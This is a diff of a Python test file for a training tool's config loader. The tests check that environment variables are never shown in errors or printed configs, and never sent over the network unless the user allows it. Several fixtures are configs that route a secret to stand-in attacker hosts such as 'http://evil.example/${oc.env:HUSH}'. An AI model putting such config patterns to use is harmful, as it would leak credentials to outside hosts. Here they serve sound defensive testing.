@@ -1,4 +1,4 @@
-"""Values of the environment: used where they are asked for, never shown, and sent only where the user allows it."""
+"""Values from the environment: used, never shown, and sent only if the user allows it."""
 
 import re
 from pathlib import Path
@@ -15,7 +15,7 @@ from tandem.report.trackers.adapters import Opening
 from tandem.train.run.directory import refuse_other_config
 
 CANARY = "hf_CANARYcanary/42"
-FILE_ASKS = "would be sent over the network, and a file asks for it."
+WOULD_BE_SENT = "would be sent over the network."
 
 
 @pytest.fixture(autouse=True)
@@ -49,11 +49,11 @@ def nested(key: str, value: object) -> str:
 # Sent
 
 
-def test_a_file_may_not_send_a_variable_to_an_address_of_its_own(write):
+def test_a_file_may_not_send_a_variable_to_its_own_address(write):
     file = write('logger: {mlflow_enabled: true, mlflow: {tracking_uri: "http://evil.example/${oc.env:HUSH}"}}')
     assert refusal(file) == (
-        f'{file}: logger.mlflow.tracking_uri = "http://evil.example/${{oc.env:HUSH}}": the value of HUSH {FILE_ASKS} If you '
-        "trust the file, add --allow-env HUSH; else give logger.mlflow.tracking_uri yourself."
+        f'{file}: logger.mlflow.tracking_uri = "http://evil.example/${{oc.env:HUSH}}": the value of HUSH {WOULD_BE_SENT} If you '
+        "trust the file, add --allow-env HUSH; otherwise set logger.mlflow.tracking_uri on the command line."
     )
     loaded = load_config(file, [], ["HUSH"])
     assert loaded.config.logger.mlflow.tracking_uri == f"http://evil.example/{CANARY}"
@@ -88,27 +88,28 @@ def test_a_file_may_not_send_a_variable_to_an_address_of_its_own(write):
         'data: {train: embedded, val_data_paths: {b: {data_path: evil/pairs}}, default: {subset: "${oc.env:HUSH}"}}',
     ],
 )
-def test_a_file_may_not_send_a_variable_by_any_way(write, monkeypatch, text):
+def test_a_file_may_not_send_a_variable_by_any_route(write, monkeypatch, text):
     monkeypatch.setenv("SHORT", "CANARY-42")
     monkeypatch.setenv("QUOTED", f'"{CANARY}"')
     said = refusal(write(text))
-    assert FILE_ASKS in said
+    assert WOULD_BE_SENT in said
     assert "CANARY" not in said
     load_config(write(text), [], ["HUSH", "SHORT", "QUOTED"])
 
 
-def test_the_address_of_a_parent_file_is_a_files_too(write):
+def test_an_inherited_address_may_not_receive_a_variable(write):
     write('logger: {mlflow_enabled: true, mlflow: {tracking_uri: "${oc.env:HUSH}"}}', "parent.yaml")
-    assert f'/parent.yaml: logger.mlflow.tracking_uri = "${{oc.env:HUSH}}": the value of HUSH {FILE_ASKS}' in refusal(
-        write("defaults: parent.yaml")
+    assert (
+        f'/parent.yaml: logger.mlflow.tracking_uri = "${{oc.env:HUSH}}": the value of HUSH {WOULD_BE_SENT}'
+        in refusal(write("defaults: parent.yaml"))
     )
 
 
 def test_each_variable_has_to_be_allowed(write, monkeypatch):
     monkeypatch.setenv("OTHER", "elsewhere")
     file = write('logger: {mlflow_enabled: true, mlflow: {tracking_uri: "http://${oc.env:OTHER}/${oc.env:HUSH}"}}')
-    assert "add --allow-env HUSH --allow-env OTHER; else" in refusal(file)
-    assert "add --allow-env OTHER; else" in refusal(file, allow_env=("HUSH",))
+    assert "add --allow-env HUSH --allow-env OTHER; otherwise" in refusal(file)
+    assert "add --allow-env OTHER; otherwise" in refusal(file, allow_env=("HUSH",))
     assert load_config(file, [], ["HUSH", "OTHER"]).options == ["--allow-env", "HUSH", "--allow-env", "OTHER"]
 
 
@@ -119,16 +120,16 @@ def test_each_variable_has_to_be_allowed(write, monkeypatch):
         ["logger.mlflow_enabled=true", "logger.mlflow={tracking_uri:'http://mine/${oc.env:HUSH}'}"],
     ],
 )
-def test_what_the_user_types_is_the_users_own(write, overrides):
+def test_variables_typed_on_the_command_line_may_be_sent(write, overrides):
     loaded = load_config(write("run: {seed: 1}"), overrides)
     assert loaded.config.logger.mlflow.tracking_uri == f"http://mine/{CANARY}"
     # The run's config.yaml is a file: resumed from it, the variable has to be allowed.
     assert loaded.options == ["--allow-env", "HUSH"]
 
 
-def test_a_variable_that_the_user_types_may_not_be_passed_on_by_the_files_address(write):
+def test_a_file_may_not_pass_on_a_variable_typed_on_the_command_line(write):
     file = write('logger: {mlflow_enabled: true, mlflow: {tracking_uri: "http://evil/${reference.cache_dir}"}}')
-    assert FILE_ASKS in refusal(file, "reference.cache_dir=${oc.env:HUSH}")
+    assert WOULD_BE_SENT in refusal(file, "reference.cache_dir=${oc.env:HUSH}")
 
 
 @pytest.mark.parametrize(
@@ -145,7 +146,7 @@ def test_a_variable_that_the_user_types_may_not_be_passed_on_by_the_files_addres
         'logger: {mlflow_enabled: true, mlflow: {tracking_uri: "http://mine/${run.name}"}}',
     ],
 )
-def test_what_stays_on_this_machine_needs_no_leave(write, text):
+def test_values_that_stay_on_this_machine_are_allowed(write, text):
     assert load_config(write(text), []).options == []
 
 
@@ -164,7 +165,7 @@ def test_what_stays_on_this_machine_needs_no_leave(write, text):
         'policy: {tokenizer: {chat_template_kwargs: {"a.b": "${oc.env:HUSH}", c: ["${oc.env:HUSH}", {d: 1}]}}}',
     ],
 )
-def test_no_way_to_a_variable_shows_it_in_the_configuration(write, monkeypatch, text):
+def test_the_printed_configuration_never_shows_a_variable(write, monkeypatch, text):
     monkeypatch.setenv("QUOTED", f'"{CANARY}"')
     loaded = load_config(write(text), [])
     assert CANARY in str(loaded.config)
@@ -182,7 +183,7 @@ def test_text_that_needs_escapes_is_escaped_in_yaml_and_read_back(write):
 
 
 def check_shows_nothing(file: str, key: str) -> None:
-    """Neither the configuration nor any error on the way to a run shows a canary."""
+    """Neither the configuration nor any error before a run shows the canary."""
     shown = ""
     try:
         loaded = load_config(file, [] if key.startswith("data") else ["data.train.data_path=embedded"])
@@ -234,36 +235,39 @@ def test_no_error_shows_a_variable_however_it_is_read(write, monkeypatch, writte
 @pytest.mark.parametrize(
     ("text", "problem"),
     [
-        ('logger: {wandb: {project: "${oc.env:HUSH}"}}', "logger.wandb.project = $HUSH is read by nobody"),
-        ('checkpointing: {checkpoint_must_save_by: "${oc.env:HUSH}"}', "checkpoint_must_save_by = '$HUSH' is no time"),
+        ('logger: {wandb: {project: "${oc.env:HUSH}"}}', "logger.wandb.project = $HUSH has no effect"),
+        (
+            'checkpointing: {checkpoint_must_save_by: "${oc.env:HUSH}"}',
+            "checkpoint_must_save_by = '$HUSH' is not a time",
+        ),
         (
             'data: {train: {data_path: a, prompt_key: "${oc.env:HUSH}", chosen_key: "${oc.env:HUSH}"}}',
             "prompt_key and chosen_key are both '$HUSH'",
         ),
-        ('policy: {scheduler: "${oc.env:HUSH}"}', "policy.scheduler = $HUSH is a text"),
-        ('policy: {scheduler: {name: "${oc.env:HUSH}"}}', "policy.scheduler.name = $HUSH is not known"),
+        ('policy: {scheduler: "${oc.env:HUSH}"}', "policy.scheduler = $HUSH is text"),
+        ('policy: {scheduler: {name: "${oc.env:HUSH}"}}', "policy.scheduler.name = $HUSH is not a known schedule"),
         ('policy: {lora: {target_modules: "(${oc.env:HUSH}"}}', 'policy.lora.target_modules = "($HUSH" is'),
         (
             'dpo: {preference_loss: simpo}\nreference: {model: "${oc.env:HUSH}"}',
-            "reference.model = $HUSH is not read by",
+            "reference.model = $HUSH has no effect",
         ),
     ],
 )
-def test_the_errors_of_our_own_checks_show_the_variable_by_name(write, text, problem):
+def test_validation_errors_show_the_name_of_a_variable_instead_of_its_value(write, text, problem):
     assert problem in refusal(write(text))
 
 
-def test_an_error_above_a_variable_does_not_show_it(write):
+def test_an_error_in_a_parent_key_does_not_show_a_variable(write):
     file = write('policy: {packing: ["${oc.env:HUSH}"]}')
     assert refusal(file).startswith(f'{file}: policy.packing = ["${{oc.env:HUSH}}"]: ')
     assert "CANARY" not in refusal(write('data: {train: [{data_path: a, split: {a: "${oc.env:HUSH}"}}]}'))
 
 
-def test_a_password_in_an_address_is_not_shown_by_an_error(write):
+def test_an_error_does_not_show_a_password_in_an_address(write):
     file = write('logger: {mlflow: {tracking_uri: "http://me:p@ss/word@host/a"}}')
     assert refusal(file) == (
-        f"{file}: logger.mlflow.tracking_uri = http://host/a is read by nobody: mlflow is not enabled. Set "
-        "logger.mlflow_enabled=true, or false if you mean it."
+        f"{file}: logger.mlflow.tracking_uri = http://host/a has no effect: mlflow is not enabled. Set "
+        "logger.mlflow_enabled=true, or false to keep it off."
     )
 
 
@@ -278,7 +282,7 @@ def test_the_difference_to_a_stored_run_does_not_show_a_variable(write, tmp_path
     assert "CANARY" not in str(caught.value)
 
 
-def test_trackers_get_the_configuration_as_it_was_written(write):
+def test_trackers_get_the_configuration_as_written(write):
     loaded = load_config(write('reference: {cache_dir: "${oc.${run.name}:HUSH}"}\nrun: {name: env}'), [])
     config = yaml.safe_load(loaded.as_yaml())
     opening = Opening(str(Path("runs/a")), "logs", 0, [], loaded.config.logger.model_dump(), config)
@@ -288,12 +292,12 @@ def test_trackers_get_the_configuration_as_it_was_written(write):
 # Many errors
 
 
-def test_of_many_mistakes_the_first_are_shown_in_no_time(write):
+def test_only_the_first_of_many_mistakes_are_shown(write):
     file = write(yaml.safe_dump({f"key{number}": 1 for number in range(500)}))
     lines = refusal(file).split("\n")
     assert lines[0] == f"{file}: unknown key key0. `tandem config` lists all keys."
     assert (len(lines), lines[-1]) == (21, "... and 480 more.")
 
 
-def test_an_endless_key_is_answered_at_once(write):
+def test_a_very_long_key_is_reported_quickly(write):
     assert refusal(write(f"? {'a' * 100_000}\n: 1")).endswith("a. `tandem config` lists all keys.")
